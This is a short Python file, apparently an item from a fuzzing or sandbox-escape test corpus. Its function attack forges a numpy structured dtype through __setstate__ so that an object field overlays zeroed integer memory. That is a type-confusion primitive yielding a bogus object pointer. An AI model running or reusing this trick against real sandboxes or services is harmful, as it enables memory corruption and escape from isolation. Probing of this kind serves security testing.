# gained: ndarray
import numpy as np
from typing import Any, cast


def attack(path: str) -> Any:
    d: Any = np.dtype([("a", "i8")])
    d.__setstate__((3, "|", None, ("a",), {"a": (np.dtype(object), 0)}, 8, 1, 16))
    b = np.zeros(1, dtype="i8").view(d)
    return b
